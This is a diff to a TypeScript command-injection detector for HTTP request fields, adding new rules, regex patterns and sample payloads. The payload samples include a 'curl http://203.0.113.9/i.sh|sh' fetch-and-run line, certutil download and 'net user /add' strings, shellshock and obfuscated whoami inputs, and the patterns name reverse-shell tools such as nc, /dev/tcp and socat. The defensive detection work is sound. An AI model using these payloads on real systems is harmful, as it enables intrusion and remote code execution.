@@ -1,6 +1,6 @@
 import type { Detector } from './detector.ts'
 import { cmdlet } from './shell/commands.ts'
-import { findCommand, findLeadingCommand, isCommand } from './shell/judge.ts'
+import { findCommand, findHiddenCommand, findLeadingCommand, isCommand } from './shell/judge.ts'
 
 const everywhere = ['query', 'body', 'path', 'referer', 'userAgent', 'user'] as const
 
@@ -12,6 +12,7 @@ export const commandInjection: Detector = {
   severity: 'critical',
   attack: ['T1190', 'T1059'],
   cwe: ['CWE-78', 'CWE-77'],
+  capec: ['CAPEC-88'],
   references: [
     'https://owasp.org/www-community/attacks/Command_Injection',
     'https://capec.mitre.org/data/definitions/88.html',
@@ -65,6 +66,7 @@ export const commandInjection: Detector = {
     },
     {
       id: 'cmdi-leading',
+      quietIn: ['search box'],
       title: 'a command with its arguments as the whole value',
       fields: ['query', 'body'],
       view: 'shell',
@@ -105,7 +107,7 @@ export const commandInjection: Detector = {
       signs: ['cmd', 'exec', 'command', 'run', 'shell', 'system', 'execute', 'ping', 'daemon', 'process'],
       structure: 'a parameter called cmd, exec, command, shell or the like, whose value is a command',
       find: (text, name) =>
-        /^(?:cmd|exec|command|execute|shell|system|run|c|_cmd|syscmd|process|daemon)$/i.test(name) &&
+        /(?:cmd|command|exec(?:ute)?|shell)$|^(?:system|run|c|process|daemon|cmd\w{0,3})$/i.test(name) &&
         isCommand(text)
           ? { start: 0, end: text.length }
           : undefined,
@@ -115,12 +117,14 @@ export const commandInjection: Detector = {
     },
     {
       id: 'cmdi-shell-path',
+      quietIn: ['prose', 'repository'],
       title: 'a shell or interpreter by its path',
       fields: everywhere,
       view: 'shell',
       signs: ['bin/', 'cmd.exe', 'command.com', 'comspec', 'powershell', '/dev/tcp', '/dev/udp', 'system32'],
-      pattern:
-        /\/(?:usr\/(?:local\/)?)?s?bin\/(?:[a-z]{0,3}sh|bash|busybox|env|cat|ls|id|nc|ncat|netcat|wget|curl|perl|python\d?|ruby|php|uname|whoami|ping|echo|rm|nslookup|tail|head|more|less|sleep|find|awk|sed|telnet|touch|chmod|ps|kill)\b|\/dev\/(?:tcp|udp)\/|\bcmd(?:\.exe)?\s{0,4}(?:\/{1,2}|\?\/)[ckq]\b|\b(?:system32|winnt)[\\/]{1,4}[\w\\/]{0,20}(?:cmd|command|powershell|calc|net|ping|certutil)\b|%COMSPEC%|\bcommand\.com\b|[\\/]cmd\.exe/i,
+      patterns: [
+        /\/(?:usr\/(?:local\/)?)?s?bin\/(?:[a-z]{0,3}sh|bash|busybox|env|cat|ls|id|nc|ncat|netcat|wget|curl|perl|python\d?|ruby|php|uname|whoami|ping|echo|rm|nslookup|tail|head|more|less|sleep|find|awk|sed|telnet|touch|chmod|ps|kill)\b|\/dev\/(?:tcp|udp)\/|\bcmd(?:\.exe)?\s{0,4}(?:\/{1,2}|\?\/)[ckq]\b|\b(?:system32|winnt)[\\/]{1,4}[\w\\/]{0,20}(?:cmd|command|powershell|calc|net|ping|certutil)\b|%COMSPEC%|\bcommand\.com\b|[\\/]cmd\.exe(?![\w.-])/i,
+      ],
       confidence: 0.75,
       matches: [
         'a=/bin/sh',
@@ -132,6 +136,7 @@ export const commandInjection: Detector = {
     },
     {
       id: 'cmdi-interpreter',
+      quietIn: ['search box'],
       title: 'an interpreter told to run code',
       fields: everywhere,
       view: 'shell',
@@ -154,8 +159,9 @@ export const commandInjection: Detector = {
         'base64 -',
         'socat',
       ],
-      pattern:
+      patterns: [
         /\b(?:perl|python[23]?|ruby|php|node|lua|bash|sh|zsh|ksh|dash)\s{1,4}-[a-z]{0,3}[ceri]\b\s{0,3}\S|\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)?\s{1,4}(?:-[a-z]{1,6}\s{1,4}){0,4}[^&\n]{0,60}(?:-[ec]\b|\d{2,5}\b)|\bmkfifo\s{1,3}\/|\b(?:powershell|pwsh)(?:\.exe)?\s{1,4}[-"'(/&i]|\bbase64\s{1,3}-{1,2}d|\|\s{0,3}(?:ba|z|k|da)?sh\b|\bawk\s{1,3}['"]?(?:BEGIN|\{)|\bsocat\s{1,3}(?:tcp|exec|-)/i,
+      ],
       confidence: 0.65,
       matches: [
         "a=perl+-e+'print+1'",
@@ -167,14 +173,17 @@ export const commandInjection: Detector = {
     },
     {
       id: 'cmdi-powershell',
+      quietIn: ['search box', 'prose'],
       title: 'PowerShell',
       fields: everywhere,
       view: 'decoded',
       signs: ['-', 'iex', 'downloadstring', 'frombase64string', 'webclient'],
-      pattern: new RegExp(
-        `(?:${cmdlet.source})(?=\\s{0,4}[-($'"|/{\\\\\\w])|\\biex\\s{0,3}[(&$]|\\bDownload(?:String|File)\\s?\\(|FromBase64String\\s?\\(|Net\\.WebClient|-(?:EncodedCommand|ExecutionPolicy)\\s|-e(?:nc?)?\\s{1,3}[A-Za-z0-9+/]{20}|\\$env:[a-z]`,
-        'i',
-      ),
+      patterns: [
+        new RegExp(
+          `(?:${cmdlet.source})(?=\\s{0,4}[-($'"|/{\\\\\\w])|\\biex\\s{0,3}[(&$]|\\bDownload(?:String|File)\\s?\\(|FromBase64String\\s?\\(|Net\\.WebClient|-(?:EncodedCommand|ExecutionPolicy)\\s|-e(?:nc?)?\\s{1,3}[A-Za-z0-9+/]{20}|\\$env:[a-z]`,
+          'i',
+        ),
+      ],
       confidence: 0.6,
       matches: [
         'a=Invoke-Expression+$x',
@@ -185,24 +194,28 @@ export const commandInjection: Detector = {
     },
     {
       id: 'cmdi-evasion',
+      quietIn: ['prose'],
       title: 'blanks and words a shell puts together',
       fields: ['query', 'body', 'path', 'referer', 'userAgent'],
       view: 'decoded',
-      signs: ['ifs', '$@', '${', "$'", '/?', '?/', '*/', '{', "''", '""', '\\', '^', '$9'],
-      pattern:
+      signs: ['ifs', '$@', '${', "$'", '/?', '?/', '*/', '{', "''", '""', '\\', '^', '$9', '$(('],
+      patterns: [
         /\$\{?IFS\b|\/(?:[a-z?*]{0,6}\?[a-z?*]{0,6}\/){1,4}[\w?*]{1,20}|\{(?:cat|ls|wget|curl|nc|echo|ping|id|sleep|bash|sh|uname|tac|nl|head|tail|base64),[^{}]{1,200}\}|\$\{(?:PATH|HOME|PWD|SHELL|HOSTNAME|OLDPWD|IFS|LS_COLORS|BASH\w{0,12})(?::|%|#|\})|\$'\\x[0-9a-f]{2}|\b(?:c\\?a\\t|c\\at|ca\\t|w['"]{2}ho|who['"]{2}ami|c['"]{2}at|ca['"]{2}t|l['"]{2}s|w\^h\^o|ne\^t|p\^ing|n\^e\^t)\b|\$\(\(|\b[a-z]{1,6}\$[@*][a-z]{1,8}\b|\$\{[@!#]\w{0,20}\}/i,
+      ],
       confidence: 0.55,
       matches: ['a=cat${IFS}x', 'a=/???/??t', 'a={cat,x}', 'a=;${HOME:0:1}etc'],
       ignores: ['a=${name}', 'q=what?/where?', 'q={a,b}', 'q=path/to/*/file'],
     },
     {
       id: 'cmdi-redirection',
+      quietIn: ['search box'],
       title: 'output written to a file, or a file read in',
       fields: ['query', 'body'],
       view: 'decoded',
       signs: ['>', '<'],
-      pattern:
+      patterns: [
         /(?:[^<>=-]|^)>{1,2}\s{0,3}(?:\/(?:tmp|var|dev|etc|home|usr)\/|[\w./\\-]{1,60}\.(?:php|jsp|aspx?|sh|txt|bat|pl|py)\b|&\s?\d)|[;|&]\s?[\w/]{0,20}\s?<\s?\/(?:etc|proc|var)\/|\b[12]>&[12]|\d?>\s?\/dev\/null/i,
+      ],
       confidence: 0.5,
       matches: ['a=x+>+/tmp/a', 'a=echo+1>>shell.php', 'a=x+2>%261'],
       ignores: ['q=a+->+b', 'q=5+>+4', 'q=<b>/tmp</b>'],
@@ -213,13 +226,14 @@ export const commandInjection: Detector = {
       fields: [...everywhere, 'host'],
       view: 'decoded',
       signs: ['()'],
-      pattern: /\(\)\s{0,4}\{[^}]{0,40}[;:]?[^}]{0,20}\}\s{0,4};?|\(\)\s?\{\s?_;\s?\}/,
+      patterns: [/^[\w=\s]{0,20}\(\)\s{0,4}\{[^}]*\}\s?;/, /^[\w=\s]{0,20}\(\)\s?\{\s?_;\s?\}/],
       confidence: 0.9,
       matches: ['a=()+{+:;};+/bin/bash', 'a=()+{+ignored;};id', 'a=()+{+_;+}+>_[$($())]+{+id;+}'],
       ignores: ['q=f()', 'q=main()+{', 'q=()'],
     },
     {
       id: 'cmdi-windows',
+      quietIn: ['search box'],
       title: 'Windows commands with their switches',
       fields: ['query', 'body', 'path'],
       view: 'shell',
@@ -246,11 +260,108 @@ export const commandInjection: Detector = {
         'systeminfo',
         'ipconfig',
       ],
-      pattern:
+      patterns: [
         /\bnet\s{1,3}(?:user|localgroup|group|view|share|start|stop|use)\b(?:\s{0,3}$|[^\n]{0,60}(?:\/add|\/domain|\\\\|administrators))|\breg\s{1,3}(?:add|query|delete|save|export)\s{1,3}["']?hk|\bcertutil\s[\s\S]{0,40}-(?:urlcache|decode|encode)|\bbitsadmin\s{1,3}\/|\bmshta\s{1,3}(?:https?|vbscript|javascript):|\bregsvr32\s{1,3}\/|\brundll32\s{1,3}[\w.:\\/]{1,60},|\bwmic\s{1,3}(?:process|os|\/node|qfe|service|useraccount)|\bschtasks\s{1,3}\/|\bnetsh\s{1,3}(?:firewall|advfirewall|wlan|interface)|\bvssadmin\s{1,3}\w|\bfor\s{1,3}\/[fdlr]\s{1,3}|\btype\s{1,3}(?:%\w+%|[a-z]:\\)|%(?:systemroot|windir|programfiles|appdata|temp|userprofile)%[\\/]|\bdir\s{1,3}(?:\/[a-z]|[a-z]:\\)|\bping\s{1,3}-[nitc]\s{1,3}\d|\bipconfig\s{0,3}\/all/i,
+      ],
       confidence: 0.65,
       matches: ['a=net+user+x+y+/add', 'a=certutil+-urlcache+-f+http://x/y', 'a=type+c:\\boot.ini'],
       ignores: ['q=net+user+group', 'q=type+a+blood', 'q=reg+add+car'],
+    },
+    {
+      id: 'cmdi-hidden',
+      title: 'a command whose name is taken apart',
+      fields: everywhere,
+      view: 'decoded',
+      signs: ["'", '"', '\\', '^', '$', '`'],
+      structure:
+        'a known command behind a separator or at the start, which only a shell’s reading of the text shows',
+      find: findHiddenCommand,
+      confidence: 0.7,
+      why: 'Quotes, carets, backslashes and empty variables inside a command’s name serve only to hide it from filters.',
+      matches: ["a=;w'h'oami", 'a=;ec\\ho+QWERTY', 'a=;ho${u}stna${u}me', 'a=w^h^o^a^m^i'],
+      ignores: ["q=rock'n'roll", "q=l'echo+des+montagnes", 'q="cat"+food', 'q=c:\\windows'],
+    },
+    {
+      id: 'cmdi-control-structure',
+      title: 'a loop or a condition of a shell',
+      fields: ['query', 'body', 'path'],
+      view: 'decoded',
+      signs: ['do ', 'then', 'esac', '. /', '. ~', '){', ') {'],
+      patterns: [
+        /\b(?:for|while|until)\s[^;\n]{1,30}[;\n]\s{0,4}do\s|\bif\s{1,4}(?:\[{1,2}|test)\s[^;\n]{1,30}[;\n]\s{0,4}then\b|\)\s{0,4}[^;]{1,30};;\s{0,4}esac|[;|&]\s{0,4}\.\s{1,4}[~/]\w|[;|&]\s?(?:function\s)?\w{1,20}\s?\(\)\s?\{/,
+      ],
+      confidence: 0.65,
+      matches: [
+        'a=;for+i+in+$(ls);do+id;done',
+        'a=;if+[+1+-eq+1+];then+sleep+5;fi',
+        'a=x;case+x+in+x)+id;;+esac',
+        'a=;.+/tmp/x',
+      ],
+      ignores: ['q=what+to+do', 'q=if+then+else', 'q=for+a+while', 'q=etc.+/+more'],
+    },
+    {
+      id: 'cmdi-download',
+      quietIn: ['search box'],
+      title: 'a download that is run or saved',
+      fields: everywhere,
+      view: 'shell',
+      signs: ['curl', 'wget', 'lwp-download', 'fetch ', 'tftp'],
+      patterns: [
+        /\b(?:curl|wget|lwp-download)\s{1,4}(?:-{1,2}[\w-]{1,20}[\s=]{1,3}){0,4}(?:[\w./-]{1,30}\s{1,3})?["']?(?:https?|ftp):\/\/[^\s|;&]+\s{0,4}(?:[|;&>]|-{1,2}[oO]|\)|`)|\btftp\s{1,3}-[gr]\s|\bcurl\s{1,3}-[A-Za-z]{1,6}\s{1,3}["']?[\w.-]+[:/]/,
+      ],
+      confidence: 0.65,
+      matches: [
+        'a=x+curl+http://203.0.113.9/i.sh|sh',
+        'a=expr+wget+http://203.0.113.9/a+-O+/tmp/a',
+        'a=tftp+-g+-r+a+203.0.113.9',
+      ],
+      ignores: ['q=curl+http://example.org', 'q=wget+download+windows', 'q=fetch+quest'],
+    },
+    {
+      id: 'cmdi-substring',
+      title: 'letters cut out of a variable of Windows',
+      fields: everywhere,
+      view: 'decoded',
+      signs: [':~'],
+      patterns: [/%\w{3,25}:~-?\d{1,3}(?:,-?\d{1,3})?%/],
+      confidence: 0.8,
+      matches: ['a=%25COMSPEC:~-7,1%25md', 'a=%25ProgramFiles:~10,1%25ing', 'a=x%25windir:~0,1%25'],
+      ignores: ['q=10%25:~5', 'q=time:~10', 'q=%25a%25'],
+    },
+    {
+      id: 'cmdi-powershell-expression',
+      title: 'an expression of PowerShell',
+      fields: everywhere,
+      view: 'decoded',
+      signs: [
+        'foreach',
+        '[char',
+        '[system',
+        '[convert',
+        '[net.',
+        '[io.',
+        '[text',
+        '[reflection',
+        "&('",
+        '&("',
+        "& ('",
+        '-join',
+        '$_',
+        '.invoke',
+        '[ref]',
+        '-f ',
+      ],
+      patterns: [
+        /&\s?\(\s?['"]\w{1,12}['"]\s?\+|\.ForEach\s?[({]|\[(?:System\.)?(?:Convert|Text\.Encoding|Net\.\w+|IO\.\w+|Diagnostics\.\w+|Reflection\.Assembly|Char|ref|Environment)\](?:::|\s?\d|\.)|\|\s?%\s?\{|-join\s?[('[]|\(\s?['"]\{\d\}[^'"]{0,30}['"]\s?-f\s/i,
+      ],
+      confidence: 0.6,
+      matches: [
+        "a=%26('i'%2B'ex')",
+        'a=@(1).ForEach{whoami}',
+        'a=[System.Text.Encoding]::Unicode',
+        'a=[char]105%2B[char]101',
+      ],
+      ignores: ['q=for+each+person', 'type[char]=1', 'q=join+us', 'q=a+-f+b'],
     },
   ],
 }
